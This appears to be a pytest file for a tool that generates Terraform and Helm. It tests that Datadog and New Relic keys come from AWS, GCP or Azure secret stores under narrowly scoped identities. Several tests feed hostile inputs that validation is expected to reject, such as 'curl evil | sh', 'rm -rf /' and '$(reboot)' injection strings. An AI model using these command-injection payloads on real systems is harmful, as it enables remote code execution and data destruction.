"""Datadog / New Relic on Lambda and VMs (and New Relic on GKE / AKS): the key comes from the cloud's secret store,
only the workload's own identity may read exactly that secret, nothing user-typed reaches the boot script, and the
report's Requirements table says honoured with the generated line."""

from __future__ import annotations

import json
import re

import helm_python
import pytest
import yaml

from bot import hclread
from bot.commands.arguments import apply_assignments, parse_assignments
from bot.inputs import missing_inputs
from bot.pipeline.planning import plan_environment
from bot.settings import Settings
from bot.spec import SpecError, spec_from_data
from generators import helm
from generators.helm import chart_dir
from generators.output import write_tree
from generators.terraform.build import generate
from tests.support.aws_specs import SPECS, make_plan, terraform_files
from tests.test_helm_chart import eso_errors
from tests.test_seed_capabilities import report_for, requirement_row

LAMBDA = SPECS["alarms-functions"]
VM = SPECS["vm-apm"]


def _statements(files: dict[str, str]) -> dict[str, dict]:
    document = hclread.loads(files["access.tf"])["data"][0]["aws_iam_policy_document"]["app"]
    return {s["sid"]: s for s in document["statement"]}


def test_lambda_reads_its_keys_by_arn_and_its_role_may_read_exactly_those_secrets() -> None:
    files = terraform_files(make_plan("alarms-functions"))
    (function,) = [r["aws_lambda_function"]["app"] for r in hclread.loads(files["lambda.tf"])["resource"]
                   if "aws_lambda_function" in r]
    env = function["environment"][0]["variables"]
    assert env["DD_API_KEY_SECRET_ARN"] == "${var.datadog_secret_arn}" and env["DD_SITE"] == "${var.datadog_site}"
    assert env["DD_ENV"] == "hooks-alarms-dev" and env["DD_SERVICE"] == "hooks-alarms-dev" and "var.image" in env["DD_VERSION"]
    assert env["NEW_RELIC_LICENSE_KEY_SECRET"] == "${var.newrelic_secret_arn}"
    assert env["NEW_RELIC_ACCOUNT_ID"] == "${var.newrelic_account_id}"
    assert "DD_API_KEY" not in env and "NEW_RELIC_LICENSE_KEY" not in env  # never the key itself
    assert "layers" not in function  # a container-image function takes no layers: the image carries the extension
    keys = _statements(files)["ReadMonitoringKeys"]
    assert keys["actions"] == ["secretsmanager:GetSecretValue"]
    assert keys["resources"] == ["${var.datadog_secret_arn}", "${var.newrelic_secret_arn}"]
    assert 'role       = aws_iam_role.lambda.name' in files["access.tf"]  # the function's own role
    missing = {m.name for m in missing_inputs(files)}
    assert {"datadog_secret_arn", "newrelic_secret_arn", "newrelic_account_id"} <= missing  # "Before you merge"


def test_without_apm_the_function_and_the_vm_read_no_key() -> None:
    for data in ({**LAMBDA, "monitoring": ["cloudwatch"]}, {**VM, "monitoring": []}):
        files = terraform_files(plan_environment(spec_from_data(data)))
        assert "ReadMonitoringKeys" not in files["access.tf"]
        assert "datadog" not in "".join(files.values()).lower() and "newrelic" not in "".join(files.values()).lower()


def test_newrelic_account_id_is_an_input_and_bad_values_are_refused() -> None:
    data = apply_assignments(dict(LAMBDA), parse_assignments("newrelic_account_id=1234567"))
    tfvars = json.loads(terraform_files(plan_environment(spec_from_data(data)))["dev-agent.auto.tfvars.json"])
    assert tfvars["newrelic_account_id"] == "1234567"
    bad = apply_assignments(dict(LAMBDA), parse_assignments("newrelic_account_id=$(reboot)"))
    with pytest.raises(SpecError, match=r"inputs\.newrelic_account_id"):
        spec_from_data(bad)


def test_vm_user_data_installs_the_agents_with_keys_read_at_boot_by_the_instance_role() -> None:
    files = terraform_files(make_plan("vm-apm"))
    ec2 = files["ec2.tf"]
    user_data = ec2[ec2.index("user_data = join"):ec2.index("user_data_replace_on_change")]
    # each key is read at boot from its secret, by ARN, into a shell variable (never written into the script)
    assert re.search(r'dd_api_key=\\"\$\(aws secretsmanager get-secret-value --region %s --secret-id %s '
                     r'--query SecretString --output text\)\\" && break; sleep 30; done", var\.region, '
                     r'var\.datadog_secret_arn\)', user_data)
    assert "var.newrelic_secret_arn)" in user_data
    assert "install_script_agent7.sh" in user_data and 'DD_HOST_TAGS=\\"env:legacy-apm-dev,service:legacy\\"' in user_data
    assert "newrelic-infra.repo" in user_data and "install -m 600 /dev/null /etc/newrelic-infra.yml" in user_data
    assert "echo DD_AGENT_HOST=host.docker.internal >> /etc/app.env" in user_data
    assert "--add-host=host.docker.internal:host-gateway" in user_data  # the app's container reaches the Agent
    assert "|| echo 'dev-agent: the APM agent was not installed" in user_data  # a failed install keeps the app up
    keys = _statements(files)["ReadMonitoringKeys"]
    assert keys["actions"] == ["secretsmanager:GetSecretValue"]
    assert keys["resources"] == ["${var.datadog_secret_arn}", "${var.newrelic_secret_arn}"]
    variables = files["variables.tf"]
    assert 'variable "datadog_site"' in variables and "can(regex(" in variables.split('variable "datadog_site"')[1]


def test_a_hostile_datadog_site_is_refused_by_the_variable_validation() -> None:
    files = terraform_files(make_plan("vm-apm"))
    site = next(v["datadog_site"] for v in hclread.loads(files["variables.tf"])["variable"] if "datadog_site" in v)
    pattern = re.search(r'regex\("(.+?)", var\.datadog_site\)', site["validation"][0]["condition"]).group(1)
    pattern = pattern.encode().decode("unicode_escape")
    assert re.match(pattern, "datadoghq.eu") and re.match(pattern, "us5.datadoghq.com")
    for hostile in ('x" ; curl evil | sh ; "', "$(reboot)", "a b", "datadoghq.com\nrm -rf /"):
        assert not re.match(pattern, hostile), hostile


@pytest.mark.parametrize(("text", "file"), [
    ("FastAPI on Lambda with Datadog on AWS us-east-1", "/terraform/lambda.tf:"),
    ("FastAPI on Lambda with New Relic on AWS us-east-1", "/terraform/lambda.tf:"),
    ("FastAPI on an EC2 VM with Datadog on AWS us-east-1", "/terraform/ec2.tf:"),
    ("FastAPI on an EC2 VM with New Relic on AWS us-east-1", "/terraform/ec2.tf:"),
])
def test_report_honours_apm_on_lambda_and_vms_with_the_generated_line(text: str, file: str) -> None:
    report = report_for(text)
    row = requirement_row(report, "Datadog agent" if "Datadog" in text else "New Relic agent")
    assert "✅ honoured" in row and file in row, row
    before = report[report.index("Before you merge"):report.index("### Spec")]
    assert ("`datadog_secret_arn`" if "Datadog" in text else "`newrelic_secret_arn`") in before
    risks = report[report.index("### Risks"):report.index("### Next steps")]
    assert ("takes no layers; the image must carry" if "Lambda" in text else "the boot script installs") in risks
    vendor = "Datadog" if "Datadog" in text else "New Relic"
    assert f"{vendor} bill their agents, hosts and data ingest to your own account (SaaS): not in this total" in report


# --- GCP: New Relic on GKE, agents on Compute Engine VMs ------------------------------------------------------------

GKE = dict(name="shop-dev", service="shop", cloud="gcp", region="us-central1", compute=dict(kind="kubernetes"),
           monitoring=["datadog", "newrelic"])
GCE = dict(name="legacy-dev", service="legacy", cloud="gcp", region="us-central1",
           compute=dict(kind="vm", min_replicas=1, max_replicas=1), monitoring=["datadog", "newrelic"])


def _gcp_files(data: dict) -> dict[str, str]:
    files = generate(plan_environment(spec_from_data(data)), Settings())
    return {path.rsplit("/", 1)[1]: text for path, text in files.items() if "/terraform/" in path}


def _iam_members(files: dict[str, str]) -> dict[str, dict]:
    return {name: body for entry in hclread.loads(files["apm.tf"])["resource"]
            for rtype, named in entry.items() if rtype == "google_secret_manager_secret_iam_member"
            for name, body in named.items()}


def test_gke_newrelic_key_comes_from_secret_manager_through_external_secrets() -> None:
    files = _gcp_files(GKE)
    values = next(o["helm_values"] for o in hclread.loads(files["outputs.tf"])["output"] if "helm_values" in o)["value"]
    assert values["externalSecret"]["managedSecrets"]["NEW_RELIC_LICENSE_KEY"] == {"key": "${var.newrelic_secret_id}"}
    assert "gcpsm" in values["externalSecret"]["provider"]  # the release's store acts as the app's service account
    members = _iam_members(files)
    assert set(members) == {"newrelic_key_app"}  # Datadog on GKE: the operator's node Agent holds its key
    member = members["newrelic_key_app"]
    assert member["secret_id"] == "${var.newrelic_secret_id}" and member["project"] == "${var.project_id}"
    assert member["role"] == "roles/secretmanager.secretAccessor"  # on that one secret, never project-wide
    assert "google_service_account.app.email" in member["member"]  # the app's own service account
    assert {m.name for m in missing_inputs(files)} >= {"newrelic_secret_id"}


def test_gce_startup_script_reads_the_keys_with_the_vms_service_account() -> None:
    files = _gcp_files(GCE)
    script = files["vm.tf"]
    assert re.search(r'dd_api_key=.*secretmanager\.googleapis\.com/v1/projects/%s/secrets/%s/versions/latest:access.*'
                     r'var\.project_id, var\.datadog_secret_id\)', script)
    assert "var.project_id, var.newrelic_secret_id)" in script
    assert "install_script_agent7.sh" in script and "infrastructure_agent/linux/apt/ bookworm main" in script
    assert "--add-host=host.docker.internal:host-gateway" in script
    members = _iam_members(files)
    assert {m["secret_id"] for m in members.values()} == {"${var.datadog_secret_id}", "${var.newrelic_secret_id}"}
    assert all(m["role"] == "roles/secretmanager.secretAccessor" for m in members.values())
    assert {"datadog_secret_id", "newrelic_secret_id"} <= {m.name for m in missing_inputs(files)}
    data = apply_assignments(dict(GCE), parse_assignments("newrelic_secret_id=nr-license datadog_secret_id=dd-key"))
    assert spec_from_data(data).inputs.newrelic_secret_id == "nr-license"
    with pytest.raises(SpecError, match=r"inputs\.datadog_secret_id"):
        spec_from_data(apply_assignments(dict(GCE), parse_assignments('datadog_secret_id="a;reboot"')))


@pytest.mark.parametrize(("text", "label", "file"), [
    ("FastAPI on GKE in us-central1 with New Relic", "New Relic agent", "/terraform/outputs.tf:"),
    ("FastAPI on a VM in GCP us-central1 with Datadog", "Datadog agent", "/terraform/vm.tf:"),
    ("FastAPI on a VM in GCP us-central1 with New Relic", "New Relic agent", "/terraform/vm.tf:"),
])
def test_report_honours_apm_on_gke_and_gce(text: str, label: str, file: str) -> None:
    row = requirement_row(report_for(text), label)
    assert "✅ honoured" in row and file in row, row


# --- Azure: agents on VMs, the key in the reviewer's Key Vault ------------------------------------------------------

AZURE_VM = dict(name="legacy-dev", service="legacy", cloud="azure", region="eastus",
                compute=dict(kind="vm", min_replicas=1, max_replicas=1), monitoring=["datadog", "newrelic"])
KV_SECRET = ("/subscriptions/3f2a6b1c-0d4e-4f5a-9b8c-7d6e5f4a3b2c/resourceGroups/ops/providers/Microsoft.KeyVault/"
             "vaults/ops-keys/secrets/datadog-api-key")


def test_azure_vm_reads_the_keys_from_key_vault_with_its_identity_scoped_to_each_secret() -> None:
    files = _gcp_files(AZURE_VM)
    assignments = {name: body for entry in hclread.loads(files["apm.tf"])["resource"]
                   for rtype, named in entry.items() if rtype == "azurerm_role_assignment"
                   for name, body in named.items()}
    assert {a["scope"] for a in assignments.values()} == {"${var.datadog_key_vault_secret_id}",
                                                           "${var.newrelic_key_vault_secret_id}"}
    assert all(a["role_definition_name"] == "Key Vault Secrets User" for a in assignments.values())
    assert all("azurerm_user_assigned_identity.app.principal_id" in a["principal_id"] for a in assignments.values())
    vm = files["vm.tf"]
    assert "https://%s.vault.azure.net/secrets/%s?api-version=7.4" in vm
    assert 'element(split("/", var.datadog_key_vault_secret_id), 8), element(split("/", var.datadog_key_vault_secret_id), 10)' in vm
    assert "azurerm_role_assignment.datadog_key_app" in vm  # the VM boots after its identity may read the key
    assert {"datadog_key_vault_secret_id", "newrelic_key_vault_secret_id"} <= {m.name for m in missing_inputs(files)}
    data = apply_assignments(dict(AZURE_VM), parse_assignments(f"datadog_key_vault_secret_id={KV_SECRET}"))
    assert spec_from_data(data).inputs.datadog_key_vault_secret_id == KV_SECRET
    hostile = KV_SECRET.replace("datadog-api-key", "x;reboot")
    with pytest.raises(SpecError, match=r"inputs\.datadog_key_vault_secret_id"):
        spec_from_data(apply_assignments(dict(AZURE_VM), parse_assignments(f"datadog_key_vault_secret_id='{hostile}'")))


def test_a_failed_key_read_is_retried_and_then_leaves_the_app_running() -> None:
    script = _gcp_files(AZURE_VM)["vm.tf"]
    assert "for attempt in 1 2 3 4 5 6 7 8 9 10; do dd_api_key=" in script and "&& break; sleep 30; done" in script
    assert '"test -n \\"$dd_api_key\\""' in script
    assert "bash -euo pipefail /usr/local/sbin/dev-agent-apm.sh || echo" in script


@pytest.mark.parametrize("label", ["Datadog agent", "New Relic agent"])
def test_report_honours_apm_on_azure_vms(label: str) -> None:
    tool = label.split(" agent")[0]
    report = report_for(f"FastAPI on a VM in Azure eastus with {tool}")
    row = requirement_row(report, label)
    assert "✅ honoured" in row and "/terraform/vm.tf:" in row, row
    assert "the boot script installs" in report[report.index("### Risks"):]


# --- Azure: New Relic on AKS through a second SecretStore on the reviewer's vault -----------------------------------

AKS = dict(name="shop-dev", service="shop", cloud="azure", region="eastus", compute=dict(kind="kubernetes"),
           monitoring=["newrelic"])
NR_SECRET = KV_SECRET.replace("datadog-api-key", "newrelic-license")


def test_aks_newrelic_key_is_read_through_a_store_on_the_reviewers_vault(tmp_path) -> None:
    files = _gcp_files(AKS)
    external = next(o["helm_values"] for o in hclread.loads(files["outputs.tf"])["output"]
                    if "helm_values" in o)["value"]["externalSecret"]
    assert external["managedSecrets"]["NEW_RELIC_LICENSE_KEY"] == {
        "key": '${element(split("/", var.newrelic_key_vault_secret_id), 10)}', "store": "apm"}
    store = external["extraStores"]["apm"]["azurekv"]
    assert store["authType"] == "WorkloadIdentity" and store["serviceAccountRef"] == {"name": "shop"}
    assert "var.newrelic_key_vault_secret_id" in store["vaultUrl"]
    (assignment,) = [body for entry in hclread.loads(files["apm.tf"])["resource"]
                     for rtype, named in entry.items() if rtype == "azurerm_role_assignment" for body in named.values()]
    assert assignment["scope"] == "${var.newrelic_key_vault_secret_id}"  # exactly that secret
    assert assignment["role_definition_name"] == "Key Vault Secrets User"

    # the chart, deployed with those values (as Terraform would resolve them), renders valid external-secrets objects
    plan = plan_environment(spec_from_data(AKS))
    write_tree(helm.generate(plan, Settings()), tmp_path)
    chart = tmp_path / chart_dir(plan)
    values = {"externalSecret": {
        "provider": {"azurekv": {"vaultUrl": "https://shop-dev-kv.vault.azure.net/"}},
        "extraStores": {"apm": {"azurekv": {"authType": "WorkloadIdentity", "vaultUrl": "https://ops-keys.vault.azure.net",
                                            "serviceAccountRef": {"name": "shop"}}}},
        "managedSecrets": {"NEW_RELIC_LICENSE_KEY": {"key": "newrelic-license", "store": "apm"}}}}
    rendered = helm_python.Chart.load(str(chart)).render(name=chart.name, namespace="shop-dev", is_install=True,
                                                         values=values)
    docs = [d for text in rendered.values() for d in yaml.safe_load_all(text) if d]
    stores = {d["metadata"]["name"]: d for d in docs if d["kind"] == "SecretStore"}
    assert set(stores) == {"shop", "shop-apm"}
    assert stores["shop-apm"]["spec"]["provider"]["azurekv"]["vaultUrl"] == "https://ops-keys.vault.azure.net"
    (external_secret,) = [d for d in docs if d["kind"] == "ExternalSecret"]
    data = {d["secretKey"]: d for d in external_secret["spec"]["data"]}
    assert data["NEW_RELIC_LICENSE_KEY"]["sourceRef"] == {"storeRef": {"kind": "SecretStore", "name": "shop-apm"}}
    assert data["NEW_RELIC_LICENSE_KEY"]["remoteRef"] == {"key": "newrelic-license"}
    assert eso_errors([d for d in docs if d["apiVersion"].startswith("external-secrets.io/")]) == []
    deployment = next(d for d in docs if d["kind"] == "Deployment")
    env = {e["name"] for e in deployment["spec"]["template"]["spec"]["containers"][0]["env"]}
    assert {"NEW_RELIC_LICENSE_KEY", "NEW_RELIC_APP_NAME"} <= env
